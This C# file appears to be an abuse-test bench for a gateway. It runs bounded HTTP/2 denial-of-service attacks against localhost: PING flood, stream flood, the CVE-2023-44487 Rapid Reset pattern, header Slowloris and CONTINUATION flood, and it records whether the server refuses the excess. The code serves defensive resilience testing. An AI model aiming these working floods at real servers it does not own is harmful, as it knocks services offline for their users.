using GuardGateway.TestUtilities;
using System.Buffers;
using System.Diagnostics;
using System.Globalization;

namespace GuardGateway.Bench.Abuse;

/// <summary>
/// The attacks of RELIABILITY.md T14 from <see cref="RawHttp2Connection"/>s, each bounded in frames, connections and
/// time. Every request is anonymous (no key): what any client that reaches the port can do. Each returns a one-line
/// outcome and, where the plan asks, whether excess was refused.
/// </summary>
internal sealed class H2Attacks(int port, TimeSpan duration)
{
    private const string Path = "/guardgateway.v1.Moderation/Moderate";
    private static readonly CultureInfo Culture = CultureInfo.InvariantCulture;
    private readonly string authority = string.Create(CultureInfo.InvariantCulture, $"127.0.0.1:{port}");

    /// <summary>
    /// PING frames as fast as one connection takes them, for the whole duration (at most 20,000,000), reconnecting
    /// whenever the server closes the connection (the gateway's Http2Guard aborts a flooding connection; at most 10,000
    /// connections).
    /// </summary>
    public async Task<(string Outcome, bool? Refused)> PingFloodAsync(CancellationToken ct)
    {
        var clock = Stopwatch.StartNew();
        long sent = 0, acks = 0;
        int connectionsUsed = 0, closed = 0;
        while (clock.Elapsed < duration && sent < 20_000_000 && connectionsUsed < 10_000)
        {
            await using var connection = await RawHttp2Connection.ConnectAsync(port, ct);
            connectionsUsed++;
            while (clock.Elapsed < duration && sent < 20_000_000 && !connection.IsClosed)
            {
                var first = sent;
                if (!await connection.SendAsync(b => Pings(b, first, 1000), ct))
                {
                    break;
                }

                sent += 1000;
            }

            closed += await connection.WaitClosedAsync(TimeSpan.FromSeconds(1), ct) ? 1 : 0;
            acks += connection.PingAcks;
        }

        var seconds = clock.Elapsed.TotalSeconds;
        return (string.Create(Culture, $"{sent:N0} PINGs written in {seconds:F1} s ({sent / seconds:N0}/s) over {connectionsUsed:N0} connections, {closed:N0} closed by the server; {acks:N0} ACKs read ({acks / (double)connectionsUsed:N0} per connection)"), null);
    }

    /// <summary>
    /// <paramref name="connections"/> connections, each opening <paramref name="streamsPerConnection"/> request streams
    /// (HEADERS without END_STREAM: the server waits for the message) and holding them for the attack's duration.
    /// </summary>
    public async Task<(string Outcome, bool? Refused)> StreamFloodAsync(int connections, int streamsPerConnection, CancellationToken ct)
    {
        var open = new List<RawHttp2Connection>();
        try
        {
            for (var c = 0; c < connections; c++)
            {
                var connection = await RawHttp2Connection.ConnectAsync(port, ct);
                open.Add(connection);
                var block = Hpack.GrpcRequest(authority, Path);
                await connection.SendAsync(b =>
                {
                    for (var i = 0; i < streamsPerConnection; i++)
                    {
                        Http2Frames.Frame(b, Http2Frames.Headers, Http2Frames.EndHeaders, 1 + (2 * i), block);
                    }
                }, ct);
            }

            await Task.Delay(duration, ct);
            var max = open.Select(c => c.ServerMaxStreams).FirstOrDefault(m => m is not null);
            var refused = open.Sum(c => c.Refused);
            var excess = open.Sum(_ => Math.Max(0, streamsPerConnection - (int)(max ?? int.MaxValue)));
            var closed = open.Count(c => c.IsClosed);
            var outcome = string.Create(Culture, $"{connections} connections x {streamsPerConnection} streams held {duration.TotalSeconds:F0} s; server SETTINGS_MAX_CONCURRENT_STREAMS={(max is null ? "none" : max.Value.ToString(Culture))}; REFUSED_STREAM {refused} of {excess} excess; connections closed by the server {closed}{GoAways(open)}");
            return (outcome, max is not null && refused >= excess);
        }
        finally
        {
            foreach (var connection in open)
            {
                await connection.DisposeAsync();
            }
        }
    }

    /// <summary>
    /// CVE-2023-44487 pattern: HEADERS then RST_STREAM(CANCEL) at once, in batches of 100 streams, reconnecting when the
    /// server closes (at most 1,000 connections, 20,000,000 streams).
    /// </summary>
    public async Task<(string Outcome, bool? Refused)> RapidResetAsync(CancellationToken ct)
    {
        var clock = Stopwatch.StartNew();
        long streams = 0;
        var connectionsUsed = 0;
        var goAways = new Dictionary<string, int>(StringComparer.Ordinal);
        var block = Hpack.GrpcRequest(authority, Path);
        while (clock.Elapsed < duration && streams < 20_000_000 && connectionsUsed < 1000)
        {
            await using var connection = await RawHttp2Connection.ConnectAsync(port, ct);
            connectionsUsed++;
            var next = 1;
            while (clock.Elapsed < duration && streams < 20_000_000 && !connection.IsClosed && next < int.MaxValue - 400)
            {
                var first = next;
                if (!await connection.SendAsync(b => HeadersThenReset(b, block, first, 100), ct))
                {
                    break;
                }

                next += 200;
                streams += 100;
            }

            await connection.WaitClosedAsync(TimeSpan.FromMilliseconds(200), ct);
            var key = connection.GoAwayCode is { } code ? "GOAWAY " + ErrorName(code) : connection.IsClosed ? "closed" : "open at the end";
            goAways[key] = goAways.GetValueOrDefault(key) + 1;
        }

        var seconds = clock.Elapsed.TotalSeconds;
        var ends = string.Join(", ", goAways.Select(g => string.Create(Culture, $"{g.Key} x{g.Value}")));
        return (string.Create(Culture, $"{streams:N0} streams opened and reset in {seconds:F1} s ({streams / seconds:N0}/s) over {connectionsUsed} connections; connection ends: {ends}"), null);
    }

    /// <summary>
    /// Slowloris on headers: <paramref name="connections"/> connections each send a HEADERS frame without END_HEADERS
    /// whose last field declares an 8,000-byte value (under Kestrel's 16 KB field limit, which refuses a longer declared
    /// value at once), then one CONTINUATION byte per second per connection.
    /// </summary>
    public async Task<(string Outcome, bool? Refused)> SlowHeadersAsync(int connections, TimeSpan hold, CancellationToken ct)
    {
        var open = new List<RawHttp2Connection>();
        var clock = Stopwatch.StartNew();
        try
        {
            var start = Hpack.Block((":method", "POST"), (":scheme", "http"), (":path", Path), (":authority", authority)).Concat(Hpack.OpenValue("x-slow", 8_000)).ToArray();
            for (var c = 0; c < connections; c++)
            {
                var connection = await RawHttp2Connection.ConnectAsync(port, ct);
                open.Add(connection);
                await connection.SendAsync(b => Http2Frames.Frame(b, Http2Frames.Headers, 0, 1, start), ct);
            }

            while (clock.Elapsed < hold && open.Any(c => !c.IsClosed))
            {
                await Task.Delay(1000, ct);
                foreach (var connection in open.Where(c => !c.IsClosed))
                {
                    await connection.SendAsync(b => Http2Frames.Frame(b, Http2Frames.Continuation, 0, 1, "a"u8), ct);
                }
            }

            var closedTimes = open.Where(c => c.IsClosed).Select(c => c.ClosedAfter!.Value).Order().ToList();
            var when = closedTimes.Count == 0 ? "" : string.Create(Culture, $" after {closedTimes[0]:F0}..{closedTimes[^1]:F0} s");
            return (string.Create(Culture, $"{connections} connections trickling a header value 1 byte/s for up to {hold.TotalSeconds:F0} s: closed by the server {closedTimes.Count}{when}{GoAways(open)}"), null);
        }
        finally
        {
            foreach (var connection in open)
            {
                await connection.DisposeAsync();
            }
        }
    }

    /// <summary>
    /// CONTINUATION flood: header blocks that never end (16 KB frames of small fields), reconnecting whenever the server
    /// closes, for the whole duration (at most 2,000 connections, 64 MB per connection).
    /// </summary>
    public async Task<(string Outcome, bool? Refused)> ContinuationFloodAsync(CancellationToken ct)
    {
        var clock = Stopwatch.StartNew();
        var start = Hpack.Block((":method", "POST"), (":scheme", "http"), (":path", Path), (":authority", authority));
        var filler = new ArrayBufferWriter<byte>();
        for (var i = 0; filler.WrittenCount < 16_000; i++)
        {
            Hpack.Field(filler, string.Create(Culture, $"x-f{i}"), "v");
        }

        long sent = 0;
        var connections = 0;
        var ends = new Dictionary<string, int>(StringComparer.Ordinal);
        while (clock.Elapsed < duration && connections < 2000)
        {
            await using var connection = await RawHttp2Connection.ConnectAsync(port, ct);
            connections++;
            long onThis = 0;
            await connection.SendAsync(b => Http2Frames.Frame(b, Http2Frames.Headers, 0, 1, start), ct);
            while (clock.Elapsed < duration && onThis < 64L << 20 && !connection.IsClosed)
            {
                if (!await connection.SendAsync(b => Http2Frames.Frame(b, Http2Frames.Continuation, 0, 1, filler.WrittenSpan), ct))
                {
                    break;
                }

                onThis += filler.WrittenCount;
            }

            sent += onThis;
            await connection.WaitClosedAsync(TimeSpan.FromSeconds(1), ct);
            var key = connection.GoAwayCode is { } code ? "GOAWAY " + ErrorName(code) : connection.IsClosed ? "closed" : "open at the end";
            ends[key] = ends.GetValueOrDefault(key) + 1;
        }

        var summary = string.Join(", ", ends.Select(e => string.Create(Culture, $"{e.Key} x{e.Value}")));
        return (string.Create(Culture, $"{connections} connections, {sent / 1024.0 / 1024:N0} MB of CONTINUATION written in {clock.Elapsed.TotalSeconds:F1} s (most never read: the server closes first); connection ends: {summary}"), null);
    }

    private static void Pings(ArrayBufferWriter<byte> buffer, long first, int count)
    {
        for (var i = 0; i < count; i++)
        {
            Http2Frames.PingFrame(buffer, first + i);
        }
    }

    private static void HeadersThenReset(ArrayBufferWriter<byte> buffer, byte[] block, int firstStream, int count)
    {
        for (var i = 0; i < count; i++)
        {
            var id = firstStream + (2 * i);
            Http2Frames.Frame(buffer, Http2Frames.Headers, Http2Frames.EndHeaders, id, block);
            Http2Frames.Reset(buffer, id, Http2Frames.Cancel);
        }
    }

    private static string GoAways(IEnumerable<RawHttp2Connection> connections)
    {
        var codes = connections.Where(c => c.GoAwayCode is not null).GroupBy(c => ErrorName(c.GoAwayCode!.Value)).Select(g => string.Create(Culture, $"{g.Key} x{g.Count()}")).ToList();
        return codes.Count == 0 ? "" : "; GOAWAY " + string.Join(", ", codes);
    }

    private static string ErrorName(uint code) => code switch
    {
        0x0 => "NO_ERROR",
        0x1 => "PROTOCOL_ERROR",
        0x2 => "INTERNAL_ERROR",
        0x6 => "FRAME_SIZE_ERROR",
        0x7 => "REFUSED_STREAM",
        0x9 => "COMPRESSION_ERROR",
        0xb => "ENHANCE_YOUR_CALM",
        _ => string.Create(CultureInfo.InvariantCulture, $"0x{code:x}"),
    };
}
